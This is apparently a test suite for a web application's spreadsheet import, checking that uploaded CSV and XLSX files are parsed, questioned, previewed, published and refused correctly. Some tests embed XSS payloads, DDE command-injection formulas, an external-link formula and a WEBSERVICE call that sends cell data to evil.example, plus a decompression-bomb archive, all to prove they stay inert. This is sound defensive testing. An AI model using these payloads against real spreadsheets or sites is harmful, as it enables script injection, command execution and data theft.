/** A spreadsheet from upload to publication, over HTTP: what is read, asked, refused, shown, written. */
import assert from 'node:assert/strict';
import { after, describe, it } from 'node:test';
import { utils, type WorkSheet, write } from '@e965/xlsx';
import { unzipSync, type Zippable, zipSync } from 'fflate';
import { sql } from 'kysely';
import type { Document } from '#core/kinds/kind.ts';
import { newId } from '#core/records/id.ts';
import { readDraft } from '#core/records/drafts.ts';
import { newestVersion } from '#core/records/read.ts';
import { Editor, type OpenForm, publishByReview, readForm } from '#core/web/pages/testing/editor.ts';
import { decoded, Site } from '#core/web/testing/site.ts';
import { directory } from '#modules/directory/index.ts';
import { strategyModule } from '#modules/strategy/index.ts';
import { texts } from '../../../../test/support/kinds.ts';
import { observatory } from '../index.ts';
import type { ObservationSet, Row } from '../kinds/observation-set.ts';
import { anIndicator, aRow, aSet, aSource } from '../testing/documents.ts';
import { forgetOldImports } from './store.ts';

const SCRIPT = '"><script>alert(1)</script><img src=x onerror=alert(1)>';
let now = new Date('2026-11-21T17:00:00Z');
const site = await Site.open({ after }, { modules: [strategyModule, directory, observatory], now: () => now });
const { database } = site.platform;
const ids = { source: newId(), peru: newId(), cusco: newId(), puno: newId(), ancash: newId(), use: newId(), users: newId(), set: newId() };
const territory = (code: string, iso: string, name: string, level = 'first', more: Document = {}): Document => ({ code, iso, name: texts(name), level, within: level === 'country' ? { absent: 'not_applicable' } : ids.peru, ...more });
await site.publishEach(
  ([
    [ids.source, 'source', aSource('ENAHO')],
    [ids.peru, 'territory', territory('PE', 'PE', 'Perú', 'country')],
    [ids.cusco, 'territory', territory('08', 'PE-CUS', 'Cusco', 'first', { otherNames: ['Qosqo'] })],
    [ids.puno, 'territory', territory('21', 'PE-PUN', 'Puno')],
    [ids.ancash, 'territory', territory('02', 'PE-ANC', 'Áncash')],
    [ids.use, 'indicator', anIndicator('internet-use', ids.source)],
    [ids.users, 'indicator', anIndicator('users', ids.source, { valueType: 'count', unit: texts('personas') })],
    [ids.set, 'observation-set', aSet(ids.source, [aRow(ids.use, 'PE-CUS', '2018', '30.5', { note: texts('Una nota que queda') }), aRow(ids.use, 'PE-PUN', '2018', '40', { breakdowns: [{ dimension: 'operator', value: 'claro', label: texts('Claro Perú') }] }), aRow(ids.users, 'PE', '2018', '1000')])],
  ] as const).map(([id, kind, document]) => ({ id, kind, document, basedOn: 0 })),
);
const [editor, second] = [await Editor.signIn(site.platform, 'edita@example.org'), await Editor.signIn(site.platform, 'segunda@example.org')];
const reader = await Editor.signIn(site.platform, 'revisa@example.org', { institution: undefined, role: 'reviewer' });

const textOf = (html: string): string => html.replace(/<[^>]+>/g, ' ').replace(/\s+/g, ' ');
const csv = (content: string, name = 'cifras.csv'): File => new File([content], name);
function xlsx(rows: unknown[][], change: (sheet: WorkSheet) => void = () => {}, name = 'cifras.xlsx'): File {
  const sheet = utils.aoa_to_sheet(rows);
  change(sheet);
  const book = utils.book_new();
  utils.book_append_sheet(book, sheet, 'Cuadro 1');
  return new File([write(book, { type: 'buffer', bookType: 'xlsx' }) as Uint8Array<ArrayBuffer>], name);
}

function zip(more: Zippable): File {
  return new File([zipSync({ ...unzipSync(write({ SheetNames: ['a'], Sheets: { a: utils.aoa_to_sheet([[1]]) } }, { type: 'buffer', bookType: 'xlsx' }) as Uint8Array), ...more }) as Uint8Array<ArrayBuffer>], 'cifras.xlsx');
}

/** Uploads a file that is read. @returns the address of the import. */
async function begin(file: File, fields: Record<string, string> = {}): Promise<string> {
  const answer = await editor.upload('/es/observatory/import', file, fields);
  assert.equal(answer.status, 303, textOf(await answer.text()));
  return (answer.headers.get('location') ?? '').replace(/\/table$/, '');
}

/** Sends the form of a step with some fields typed otherwise. @returns the page that it leads to. */
async function step(path: string, typed: Record<string, string> = {}): Promise<{ readonly at: string; readonly status: number; readonly html: string }> {
  const form = await editor.open(path);
  const answer = await editor.post(form.action, form.filled(typed, ''));
  const at = answer.headers.get('location') ?? path;
  return { at, status: answer.status, html: answer.status === 303 ? await (await editor.get(at)).text() : await answer.text() };
}
const INTO = { indicator: ids.use, set: ids.set };
const intoSet = (path: string, typed: Record<string, string> = {}) => step(`${path}/columns`, { ...INTO, ...typed });

/** The counts of a preview: new, changed, same, ended. */
const countsOf = (html: string): number[] => [...html.matchAll(/<div class="figure"><dt>[^<]*<\/dt><dd><strong>([\d ]+)</g)].map(([, count = '']) => Number(count));
const loadForm = (html: string): OpenForm => readForm(html.replace('<form method="post"', '<form class="form" method="post"'));
async function load(html: string): Promise<Response> {
  const form = loadForm(html);
  return editor.post(form.action, form.entries);
}
async function rowsOfDraft(id: string): Promise<Row[]> {
  return ((await readDraft(database, id))?.document as ObservationSet | undefined)?.rows ?? [];
}
const rowAt = (rows: readonly Row[], territoryCode: string, time: string): Row | undefined => rows.find((row) => row.territory === territoryCode && row.time === time && !row.breakdowns);
async function discardDrafts(): Promise<void> {
  await sql`delete from draft`.execute(database);
  await sql`delete from record where version is null`.execute(database);
}

describe('a crossed workbook', () => {
  it('goes from upload to publication, each number with the cell and the hash that it came from', async () => {
    const file = xlsx([['Cuadro 1. Uso de internet'], ['Región', '2018', '2019 (p)'], ['Cusco', '30,5', '33,1 a/'], ['Ancash', 'n.d.', 0.281], ['Puno', '12,25', '41,2 %'], ['Fuente: ENAHO']], (sheet) => (sheet['C4'].z = '0.0%'));
    const path = await begin(file, { set: ids.set });
    assert.match(textOf(await (await editor.get(`${path}/table`)).text()), /Comienzo de «Cuadro 1»/);
    assert.equal((await step(`${path}/table`)).at, `${path}/columns`);
    const asked = await intoSet(path, { scale: 'percent' });
    assert.equal(asked.at, `${path}/questions`);
    assert.match(textOf(asked.html), /¿Qué quiere decir «n\.d\.» en lugar de una cifra\? En B4/);
    const { at, html } = await step(asked.at, { 'q-0': 'not_stated' });
    assert.equal(at, `${path}/preview`);
    assert.deepEqual(countsOf(html), [5, 0, 1, 0], textOf(html));
    for (const told of [/C3 «33,1 a\/» → 33\.1/, /C4 «28\.1%» → 28\.1/, /C5 «41,2 %» → 41\.2/, /A6 «Fuente: ENAHO»/, /B4 «n\.d\.»/]) assert.match(textOf(html), told);
    const loaded = await load(html);
    assert.equal(loaded.status, 303);
    assert.equal(loaded.headers.get('location'), `/es/observations/${ids.set}/review`);
    const rows = await rowsOfDraft(ids.set);
    assert.equal(rows.length, 8);
    assert.deepEqual(rowAt(rows, 'PE-CUS', '2019'), { indicator: ids.use, territory: 'PE-CUS', time: '2019', value: '33.1', status: 'P', place: 'cifras.xlsx, Cuadro 1, C3', note: { es: { text: 'La fuente marca esta cifra con «a/».', status: 'original' } } });
    assert.deepEqual(rowAt(rows, 'PE-ANC', '2018')?.value, { absent: 'not_stated' });
    assert.equal(rowAt(rows, 'PE-ANC', '2019')?.value, '28.1');
    assert.deepEqual(rowAt(rows, 'PE-CUS', '2018')?.note?.['es']?.text, 'Una nota que queda', 'what did not change stays as it was');
    assert.deepEqual((await database.selectFrom('audit').select('act').where('record_id', '=', ids.set).where('act', '=', 'draft-opened').execute()).length, 1);
    assert.equal((await editor.get(`${path}/preview`)).status, 404, 'gone with the draft');

    await publishByReview(editor, second, `/es/observations/${ids.set}`);
    const document = (await newestVersion(database, ids.set))?.document as ObservationSet;
    const bytes = new Uint8Array(await file.arrayBuffer());
    const hash = [...new Uint8Array(await crypto.subtle.digest('SHA-256', bytes))].map((byte) => byte.toString(16).padStart(2, '0')).join('');
    assert.equal(document.note?.['es']?.text, `cifras.xlsx · SHA-256 ${hash}`);
    assert.match(await site.text(`/es/indicators/${ids.use}`), /cifras\.xlsx, Cuadro 1, C3/);

    const again = await begin(file, { set: ids.set });
    await intoSet(again, { scale: 'percent' });
    const same = await step(`${again}/questions`, { 'q-0': 'not_stated' });
    assert.match(textOf(same.html), /Nada cambia/);
    assert.doesNotMatch(same.html, /Hacer el borrador/);
    assert.deepEqual(countsOf(same.html), [0, 0, 6, 0]);
    assert.equal((await editor.post(`${again}/load`, [['digest', '']])).status, 422);
    assert.equal(await readDraft(database, ids.set), undefined);
  });
});

describe('what is exported', () => {
  it('and imported again changes nothing', async () => {
    for (const address of [`/es/indicators/${ids.use}/figures.csv`, `/en/observations/${ids.set}/figures.csv`]) {
      const path = await begin(csv(await decoded(await site.ask(address))));
      const { html, at } = await step(`${path}/columns`);
      assert.equal(at, `${path}/preview`, textOf(html));
      const counts = countsOf(html);
      assert.deepEqual([counts[0], counts[1], counts[3]], [0, 0, 0], textOf(html));
      assert.ok((counts[2] ?? 0) >= 6);
      assert.match(textOf(html), /Nada cambia/);
    }
  });

  it('and changed in one figure changes that one', async () => {
    const exported = await decoded(await site.ask(`/en/observations/${ids.set}/figures.csv`));
    const path = await begin(csv(exported.replace('33.1', '34.2')));
    const { html } = await step(`${path}/columns`);
    assert.deepEqual(countsOf(html).slice(0, 2), [0, 1]);
    assert.match(textOf(html), /33,1.* 34,2/);
    assert.equal((await load(html)).status, 303);
    assert.equal(rowAt(await rowsOfDraft(ids.set), 'PE-CUS', '2019')?.value, '34.2');
    await discardDrafts();
  });
});

describe('a file of Open SDG', () => {
  it('is read unchanged: a blank code is the country, a blank group the whole', async () => {
    const path = await begin(csv('Year,Sex,GeoCode,Value\n2020,,,52.1\n2020,Female,,50.3\n2020,Male,PE-CUS,48\n'));
    const { html, at } = await step(`${path}/columns`, { indicator: ids.use, title: 'Nuevo', source: ids.source });
    assert.equal(at, `${path}/preview`, textOf(html));
    assert.deepEqual(countsOf(html), [3, 0, 0, 0]);
    const answer = await load(html);
    const id = (answer.headers.get('location') ?? '').split('/')[3] ?? '';
    const document = (await readDraft(database, id))?.document as ObservationSet;
    assert.deepEqual(document.rows.map(({ territory: where, breakdowns = [], value }) => [where, ...breakdowns.map((one) => `${one.dimension} ${one.value}`), value]), [['PE', '52.1'], ['PE', 'sex F', '50.3'], ['PE-CUS', 'sex M', '48']]);
    assert.deepEqual([document.title['es']?.text, document.source], ['Nuevo', ids.source]);
    assert.match(document.note?.['es']?.text ?? '', /^cifras\.csv · SHA-256 [0-9a-f]{64}$/);
    await publishByReview(editor, second, `/es/observations/${id}`);
  });
});

describe('what only a person can say', () => {
  it('is asked once and never guessed: signs, places, blanks', async () => {
    const path = await begin(csv('Region;Año;Valor\nCuzco;2020;1,234\nCuzco;2021;5,678\nQosqo;2022;2,345\nPunno;2020;\n'));
    const asked = await intoSet(path, { indicator: ids.users });
    assert.equal(asked.at, `${path}/questions`);
    const page = textOf(asked.html);
    assert.match(page, /¿Cómo se lee «1,234» en esta columna\? En C2, C3, C4/);
    assert.match(page, /¿Qué lugar es «Cuzco»\? En A2, A3/);
    assert.match(page, /¿Qué lugar es «Punno»\? En A5/);
    assert.doesNotMatch(page, /Qosqo»\?/);
    const open = await editor.open(asked.at);
    const named = Object.fromEntries(open.entries.filter(([name]) => name.startsWith('key-')).map(([name, key]) => [key, name.replace('key-', 'q-')]));
    const half = await editor.post(open.action, open.filled({ [named['decimal:C'] ?? '']: 'point' }, ''));
    assert.equal(half.status, 422);
    assert.match(textOf(await half.text()), /Faltan respuestas/);
    const again = await editor.open(asked.at);
    const at = (key: string): string => (again.entries.find(([name, value]) => name.startsWith('key-') && value === key)?.[0] ?? '').replace('key-', 'q-');
    const wrong = await editor.post(again.action, again.filled({ [`${at('territory:cuzco')}-other`]: 'Ningunlugar' }, ''));
    assert.match(textOf(await wrong.text()), /No se conoce «Ningunlugar»/);
    const answer = await editor.post(again.action, again.filled({ [`${at('territory:cuzco')}-other`]: 'cusco', [at('territory:punno')]: 'PE-PUN', [at('missing:')]: 'skip', [at('decimal:C')]: 'point' }, ''));
    assert.equal(answer.headers.get('location'), `${path}/preview`);
    const html = await (await editor.get(`${path}/preview`)).text();
    assert.deepEqual(countsOf(html), [3, 0, 0, 0]);
    assert.match(textOf(html), /1 234|1\.234|1234/);
  });

  it('is left out where it says so', async () => {
    const path = await begin(csv('Region;Año;Valor\nCusco;2020;1,5\nOtro mundo;2020;2,5\n'));
    const asked = await intoSet(path);
    const { html } = await step(asked.at, { 'q-0': 'skip' });
    assert.deepEqual(countsOf(html), [1, 0, 0, 0]);
    assert.match(textOf(html), /Filas que usted dejó fuera 1 A3 «Otro mundo»/);
  });
});

describe('a bad sheet', () => {
  it('gets its errors by cell in plain words, and nothing is written', async () => {
    const rows = [['Región', 'Año', 'Valor', 'n'], ['Cusco', 2020, 45, 100], ['Puno', 2020, 'cerca de 12', 100], ['Áncash', 'hoy', 12, 100], ['Cusco', 2020, 46, 100], ['Puno', 2021, 0, 10.5], ['Áncash', 2021, 5, null], ['Áncash', 2022, null, null], ['Puno', 2022, 1, null]];
    const path = await begin(
      xlsx(rows, (sheet) => {
        sheet['C6'] = { t: 'n', v: 45_000, z: 'd/m/yyyy' };
        sheet['!merges'] = [utils.decode_range('C7:C8')];
        sheet['C9'] = { t: 'e', v: 7, w: '#DIV/0!' };
      }),
    );
    const { html } = await intoSet(path);
    const page = textOf(html);
    for (const said of [/12 mil|Hay palabras o signos junto al número.*C3 «cerca de 12»/, /no es una fecha que se entienda.*B4 «hoy»/, /está dos veces.*C5 .*= C2/, /convirtió lo escrito en una fecha.*C6/, /Aquí se cuenta.*D6/, /Celdas unidas: no se sabe.*C8/, /no pudo calcular esta celda.*C9/]) assert.match(page, said);
    assert.doesNotMatch(html, /Hacer el borrador/);
    assert.equal((await editor.post(`${path}/load`, [['digest', 'x']])).status, 422);
    assert.equal(await readDraft(database, ids.set), undefined);
  });

  it('is checked as every set is: impossible percentages and shares beyond the whole are told at their cells', async () => {
    const path = await begin(csv('Region;Año;Valor;n\nCusco;2020;25;33\nPuno;2020;50;100\n'));
    const { html } = await intoSet(path);
    assert.match(textOf(html), /C2 «25»: .*33/);
    assert.doesNotMatch(html, /C3 «50»/);
    const beyond = await intoSet(await begin(csv('Region;Año;Valor\nCusco;2020;145,5\n')));
    assert.match(textOf(beyond.html), /C2 «145\.5»: /);
  });

  it('with mixed percentages asks for the unit; told, it converts exactly and says so in the row', async () => {
    const path = await begin(csv('Region;Año;Valor\nCusco;2020;0,123\nPuno;2020;45 %\n'));
    assert.match(textOf((await intoSet(path)).html), /unas celdas llevan % y otras no.*C2 «0,123»/);
    const { html } = await intoSet(path, { scale: 'fraction' });
    assert.deepEqual(countsOf(html), [2, 0, 0, 0]);
    assert.equal((await load(html)).status, 303);
    const row = rowAt(await rowsOfDraft(ids.set), 'PE-CUS', '2020');
    assert.deepEqual([row?.value, row?.note?.['es']?.text], ['12.3', 'La fuente escribe 0.123; se convirtió en 12.3.']);
    assert.equal(rowAt(await rowsOfDraft(ids.set), 'PE-PUN', '2020')?.value, '45');
    await discardDrafts();
  });

  it('of hostile texts is inert on every page', async () => {
    const path = await begin(csv(`Region;Año;Valor;${SCRIPT.replaceAll('"', "'")}\n${SCRIPT.replaceAll('"', "'")};2020;1,5;x\nCusco;2020;=cmd|x;y\n`, `${SCRIPT.replaceAll('"', "'").replaceAll('/', '')}.csv`));
    await intoSet(path);
    for (const name of ['table', 'columns', 'questions', 'preview']) assert.doesNotMatch(await (await editor.get(`${path}/${name}`)).text(), /<script>alert|<img src=x/, name);
    assert.doesNotMatch(await (await editor.get('/es/observatory/import')).text(), /<script>alert|<img src=x/);
  });
});

describe('a workbook with formulas that ask for other files', () => {
  it('gives the results that its program kept, and asks for nothing', async (t) => {
    const asked = t.mock.method(globalThis, 'fetch', () => assert.fail('something was fetched'));
    const path = await begin(xlsx([['Region', 'Año', 'Valor'], ['Cusco', 2020, 0], ['Puno', 2020, 0], ['Áncash', 2020, 0]], (sheet) => {
      sheet['C2'] = { t: 'n', v: 12.5, f: "'https://evil.example/[libro.xlsx]Hoja1'!A1" };
      sheet['C3'] = { t: 'n', v: 13.5, f: 'WEBSERVICE("https://evil.example/?c="&A3)' };
      sheet['C4'] = { t: 's', v: '=cmd|\' /C calc\'!A0', l: { Target: 'https://evil.example/' } };
    }));
    const { html, at } = await intoSet(path);
    assert.match(at, /preview$/);
    assert.match(textOf(html), /C4 «=cmd\|/);
    assert.match(textOf(html), /Son resultados de fórmulas.* C2 .*12\.5 C3 .*13\.5/);
    assert.doesNotMatch(html, /evil\.example/);
    assert.equal(asked.mock.callCount(), 0);
  });
});

describe('a file that cannot be read', () => {
  it('is refused on the page with what to do, and nothing is kept', async () => {
    const before = await sql<{ count: string }>`select count(*) from observation_import`.execute(database);
    const cases: readonly (readonly [number, RegExp, File])[] = [
      [413, /pesa más de 10 MB/, new File([new Uint8Array(11 * 1024 * 1024)], 'a.csv')],
      [413, /pesa más de 10 MB/, new File([new Uint8Array(50 * 1024 * 1024)], 'a.csv')],
      [422, /por dentro es otra cosa/, csv('a,b', 'a.xlsx')],
      [422, /no es una hoja de cálculo/, csv('<html>', 'a.xls')],
      [422, /más de 10[ .]000 filas/, csv('1,2\n'.repeat(1_000_000))],
      [422, /más de 300 columnas/, csv('1,'.repeat(1_000_000))],
      [422, /Elija un archivo/, new File([], '')],
      [422, /crece sin medida/, zip({ 'xl/worksheets/sheet1.xml': new Uint8Array(60 * 1024 * 1024).fill(0x20) })],
      [422, /texto de más de/, csv(`Region;Año;Valor\nCusco;2020;${'9'.repeat(1024 * 1024)}\n`)],
    ];
    for (const [status, text, file] of cases) {
      const answer = await editor.upload('/es/observatory/import', file);
      assert.equal(answer.status, status, file.name);
      assert.match(textOf(await answer.text()), text);
    }
    assert.equal((await editor.post('/es/observatory/import', [['file', 'x']])).status, 422);
    assert.deepEqual((await sql<{ count: string }>`select count(*) from observation_import`.execute(database)).rows, before.rows);
  });
});

describe('an import', () => {
  it('is one person’s: to others it is not there, and to those who may write no set it is forbidden', async () => {
    const path = await begin(csv('Region;Año;Valor\nCusco;2020;1,5\n'));
    assert.equal((await second.get(`${path}/table`)).status, 404);
    assert.equal((await second.post(`${path}/load`, [['digest', '']])).status, 404);
    assert.equal((await reader.get(`${path}/table`)).status, 403);
    assert.equal((await reader.get('/es/observatory/import')).status, 403);
    assert.equal((await reader.upload('/es/observatory/import', csv('a,b'))).status, 403);
    assert.doesNotMatch(await (await reader.get('/es/observatory')).text(), /observatory\/import/);
    assert.match(await (await editor.get('/es/observatory')).text(), /observatory\/import/);
    assert.match(await (await editor.get(`/es/observations/${ids.set}`)).text(), new RegExp(`observatory/import\\?set=${ids.set}`));
    assert.match(await (await editor.get('/es/desk')).text(), /observatory\/import/);
    await editor.post(`${path}/discard`, []);
    assert.equal((await editor.get(`${path}/table`)).status, 404);
  });

  it('is gone after a day', async () => {
    const path = await begin(csv('Region;Año;Valor\nCusco;2020;1,5\n'));
    const then = now;
    try {
      now = new Date(then.getTime() + 24 * 60 * 60 * 1000);
      const nextDay = await Editor.signIn(site.platform, 'edita@example.org');
      assert.equal((await nextDay.get(`${path}/table`)).status, 404);
      await forgetOldImports(database, now);
      assert.deepEqual((await sql`select id from observation_import`.execute(database)).rows, []);
    } finally {
      now = then;
    }
  });

  it('writes what was shown and nothing else: a set that changed meanwhile is shown again', async () => {
    const path = await begin(csv('Region;Año;Valor\nCusco;2020;1,5\n'));
    const { html } = await intoSet(path);
    const form = await editor.open(`/es/observations/${ids.set}/edit?step=all`);
    assert.equal((await editor.post(form.action, form.filled({ 'title.es.text': 'Otro título' }, 'save'))).status, 303);
    const answer = await load(html);
    assert.equal(answer.status, 409);
    assert.match(textOf(await answer.text()), /Mientras miraba, alguien cambió el conjunto/);
    const twice = await (await editor.get(`${path}/preview`)).text();
    const answers = await Promise.all([load(twice), load(twice)]);
    assert.deepEqual(answers.map(({ status }) => status).toSorted(), [303, 404], 'two presses, one draft');
    const draft = await readDraft(database, ids.set);
    assert.equal((draft?.document as ObservationSet | undefined)?.title['es']?.text, 'Otro título');
    await editor.post(`/es/observations/${ids.set}/review`, (await editor.open(`/es/observations/${ids.set}/review`)).filled({}, 'submit'));
    const late = await intoSet(await begin(csv('Region;Año;Valor\nCusco;2021;1,5\n')));
    assert.match(textOf(late.html), /está en revisión/);
    await discardDrafts();
  });

  it('of a corrected sheet knows what was said of the one before; a file of the same name is told apart by its hash', async () => {
    const first = await begin(csv('Región;Año;Valor\nCusco;2025;n.d.\nPuno;2025;12 mil\n'));
    const asked = await intoSet(first);
    assert.match(textOf((await step(asked.at, { 'q-0': 'unknown' })).html), /C3 «12 mil»/);
    const path = await begin(csv('Región;Año;Valor\nCusco;2025;n.d.\nPuno;2025;12\n'));
    const { at, html } = await step(`${path}/columns`);
    assert.equal(at, `${path}/preview`, textOf(html));
    assert.equal((await load(html)).status, 303);
    const one = await begin(csv('Región;Año;Valor\nÁncash;2025;7\n'));
    assert.equal((await load((await step(`${one}/columns`)).html)).status, 303);
    const rows = await rowsOfDraft(ids.set);
    assert.equal(rowAt(rows, 'PE-PUN', '2025')?.place, 'cifras.csv, CSV, C3');
    const [, hash] = /^cifras\.csv #([0-9a-f]{8}), CSV, C2$/.exec(rowAt(rows, 'PE-ANC', '2025')?.place ?? '') ?? assert.fail();
    const note = ((await readDraft(database, ids.set))?.document as ObservationSet | undefined)?.note?.['es']?.text ?? '';
    assert.match(note, new RegExp(`^cifras\\.csv · SHA-256 [0-9a-f]{64}$`, 'm'));
    assert.match(note, new RegExp(`^cifras\\.csv #${hash} · SHA-256 ${hash}[0-9a-f]{56}$`, 'm'));
    await discardDrafts();
  });

  it('can end what the file does not hold', async () => {
    const path = await begin(csv('Region;Año;Valor\nCusco;2018;30,5\n'));
    const { html } = await intoSet(path, { rest: 'end' });
    const [, , same, ended] = countsOf(html);
    assert.equal(same, 1);
    assert.ok((ended ?? 0) >= 6);
  });

  it('cannot go on without what it needs, and says what', async () => {
    const path = await begin(csv('x;y\nCusco;1,5\n'));
    const { status, html } = await step(`${path}/columns`, { 'c-0': 'territory', indicator: '', set: '', time: '' });
    assert.equal(status, 422);
    for (const said of [/Diga qué columna tiene el año/, /Diga qué columna tiene el indicador/, /Elija el conjunto al que van/]) assert.match(textOf(html), said);
    assert.equal((await editor.get(`${path}/nothing`)).status, 404);
    assert.equal((await step(`${path}/table`, { header: '99' })).status, 422);
  });
});
